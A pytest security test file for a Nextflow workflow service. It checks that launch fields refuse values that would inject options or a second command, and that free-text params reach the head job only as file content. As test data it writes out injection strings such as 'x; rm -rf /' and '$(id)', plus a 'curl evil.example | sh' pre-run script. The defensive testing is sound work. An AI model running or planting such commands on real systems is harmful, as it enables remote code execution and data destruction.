"""No launch field becomes an option of ``nextflow run``.

Every field that becomes an argument (pipeline, revision, profiles, entry, main script,
run name, session id, compute environment) refuses values that could read as an option
or carry a second command, with a 400 naming the field. The free-text fields (params,
config text, tags) are accepted as written and reach the head job only as file content:
a real submit through the worker, with the Nextflow stand-in as the head job, shows
them in params.json and nextflow.config and nowhere in its argv."""

from __future__ import annotations

import json
import time

import pytest
import yaml

from tests.conftest import WES
from tests.live import STANDIN
from tests.security.evidence import run_count
from workers import execution

HOSTILE = [
    "-with-docker",
    "--help",
    "-",
    "-profile=x",
    " -with-docker",
    "a -with-docker",
    "x; rm -rf /",
    "$(id)",
    "`id`",
    "a\nb",
    "main\n",
    "a,-with-docker",
]
# Where a WES launch option or a Tower launch field ends up in the command.
WES_OPTIONS = ["revision", "profile", "entry", "main_script", "resume", "latest", "compute_env_id"]
TOWER_FIELDS = [
    "pipeline",
    "revision",
    "configProfiles",
    "entryName",
    "mainScript",
    "runName",
    "sessionId",
    "computeEnvId",
]
# Every option the command builder may emit; anything else starting with "-" is injected.
BUILDER_OPTIONS = {
    "-log",
    "-c",
    "-name",
    "-r",
    "-profile",
    "-params-file",
    "-main-script",
    "-entry",
    "-resume",
    "-latest",
    "-with-timeline",
    "-with-tower",
    "-ansi-log",
}


def _wes_fields(**overrides: str) -> dict[str, str]:
    return {
        "workflow_type": "NFL",
        "workflow_type_version": "DSL2",
        "workflow_url": "nf-core/demo",
        **overrides,
    }


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
@pytest.mark.parametrize("option", WES_OPTIONS)
def test_wes_launch_options_refuse_option_like_values(client, alice, db, option, value):
    count = run_count(db)
    response = client.post(
        f"{WES}/runs",
        headers=alice,
        data=_wes_fields(workflow_engine_parameters=json.dumps({option: value})),
    )
    assert response.status_code == 400, response.text
    assert response.json()["msg"].startswith(f"workflow_engine_parameters.{option}:")
    assert run_count(db) == count


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_wes_workflow_url_refuses_option_like_values(client, alice, db, value):
    count = run_count(db)
    response = client.post(f"{WES}/runs", headers=alice, data=_wes_fields(workflow_url=value))
    assert response.status_code == 400, response.text
    assert response.json()["msg"].startswith("workflow_url:")
    assert run_count(db) == count


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
@pytest.mark.parametrize("field", TOWER_FIELDS)
def test_tower_launch_fields_refuse_option_like_values(client, alice, db, field, value):
    launch = {"pipeline": "nf-core/demo", field: [value] if field == "configProfiles" else value}
    if field == "sessionId":
        launch["resume"] = True
    count = run_count(db)
    response = client.post("/api/workflow/launch", headers=alice, json={"launch": launch})
    assert response.status_code == 400, response.text
    assert response.json()["message"].startswith(f"launch.{field}:"), response.json()
    assert run_count(db) == count


@pytest.mark.parametrize("field", ["preRunScript", "postRunScript"])
def test_shell_scripts_around_a_local_run_are_refused(client, alice, db, field):
    count = run_count(db)
    launch = {"pipeline": "nf-core/demo", field: "curl evil.example | sh"}
    response = client.post("/api/workflow/launch", headers=alice, json={"launch": launch})
    assert response.status_code == 400
    assert response.json()["message"].startswith(f"launch.{field}:")
    assert run_count(db) == count


# Free text: every hostile value as a parameter name and as a value.
# Keys in a run option's form ("-with-docker") are refused (the next test); "--x" keys are
# params in Nextflow's command-line form. Every other hostile text is a key as it is.
HOSTILE_PARAMS = {
    **{value: "x" for value in HOSTILE if not value.startswith("-")},
    **{f"p{number}": value for number, value in enumerate(HOSTILE)},
}
OPTION_KEYS = [value for value in HOSTILE if value.startswith("-") and not value.startswith("--")]
HOSTILE_CONFIG = "\n".join(f"// {value!r}" for value in HOSTILE) + "\nparams.k = '-with-docker'\n"


@pytest.fixture
def executor(db, settings):
    return execution.Executor(
        db=db, settings=settings.model_copy(update={"nextflow": str(STANDIN)})
    )


def _run_head_job(executor, run_dir, run_id: str) -> None:
    """Submit as a worker does (the stand-in is the head job), and let it finish."""
    execution.submit(executor, run_id)
    deadline = time.monotonic() + 20
    while not (run_dir(run_id) / "exitcode").exists():
        assert time.monotonic() < deadline, "the head job did not finish"
        time.sleep(0.05)


def _assert_no_injection(argv: list[str], pipeline: str) -> None:
    assert argv[argv.index("run") + 1] == pipeline
    flags = [arg for arg in argv[1:] if arg.startswith("-")]
    assert set(flags) <= BUILDER_OPTIONS, flags
    assert not set(HOSTILE) & set(argv)
    assert not any("\n" in arg or "$(" in arg or "`" in arg for arg in argv)


def test_free_text_reaches_a_wes_head_job_only_as_file_content(client, alice, run_dir, executor):
    """Params, tags and config text carry every hostile value, and the pipeline is an
    attachment named like an option."""
    response = client.post(
        f"{WES}/runs",
        headers=alice,
        data=_wes_fields(
            workflow_url="-with-docker",
            workflow_params=json.dumps(HOSTILE_PARAMS),
            tags=json.dumps({f"t{n}": value for n, value in enumerate(HOSTILE)}),
            workflow_engine_parameters=json.dumps({"config": HOSTILE_CONFIG}),
        ),
        files=[("workflow_attachment", ("-with-docker", b"workflow {}\n"))],
    )
    assert response.status_code == 200, response.text
    run_id = response.json()["run_id"]
    _run_head_job(executor, run_dir, run_id)
    argv = client.get(f"{WES}/runs/{run_id}", headers=alice).json()["run_log"]["cmd"]
    launch_dir = run_dir(run_id).resolve() / "launch"
    _assert_no_injection(argv, str(launch_dir / "-with-docker"))
    assert json.loads((run_dir(run_id) / "params.json").read_text()) == HOSTILE_PARAMS
    assert (run_dir(run_id) / "nextflow.config").read_text() == HOSTILE_CONFIG
    assert argv[argv.index("-params-file") + 1] == str(run_dir(run_id).resolve() / "params.json")


@pytest.mark.parametrize("key", OPTION_KEYS, ids=repr)
def test_a_params_key_in_a_run_option_s_form_is_refused_naming_it(client, alice, key):
    count = run_count_of(client, alice)
    wes = client.post(
        f"{WES}/runs",
        headers=alice,
        data=_wes_fields(workflow_url="nf-core/demo", workflow_params=json.dumps({key: "x"})),
    )
    assert wes.status_code == 400 and wes.json()["msg"].startswith(f"workflow_params.{key}:")
    tower = client.post(
        "/api/workflow/launch",
        headers=alice,
        json={"launch": {"pipeline": "nf-core/demo", "paramsText": json.dumps({key: "x"})}},
    )
    assert tower.status_code == 400
    assert tower.json()["message"].startswith(f"launch.paramsText.{key}:")
    assert run_count_of(client, alice) == count


def run_count_of(client, headers) -> int:
    return len(client.get(f"{WES}/runs", headers=headers).json()["runs"])


def test_free_text_reaches_a_tower_head_job_only_as_file_content(client, alice, run_dir, executor):
    launch = {
        "pipeline": "nf-core/demo",
        "paramsText": yaml.safe_dump(HOSTILE_PARAMS),
        "configText": HOSTILE_CONFIG,
        "configProfiles": ["test", "docker"],
        "revision": "v1.0",
        "runName": "ok_name",
    }
    response = client.post("/api/workflow/launch", headers=alice, json={"launch": launch})
    assert response.status_code == 200, response.text
    run_id = response.json()["workflowId"]
    _run_head_job(executor, run_dir, run_id)
    argv = client.get(f"{WES}/runs/{run_id}", headers=alice).json()["run_log"]["cmd"]
    _assert_no_injection(argv, "nf-core/demo")
    assert argv[argv.index("-profile") + 1] == "test,docker"
    assert argv[argv.index("-r") + 1] == "v1.0" and argv[argv.index("-name") + 1] == "ok_name"
    assert json.loads((run_dir(run_id) / "params.json").read_text()) == HOSTILE_PARAMS
    assert (run_dir(run_id) / "nextflow.config").read_text() == HOSTILE_CONFIG
    console = (run_dir(run_id) / f"nf-{run_id}.txt").read_text()
    assert "uid=" not in console  # no $(id) ran
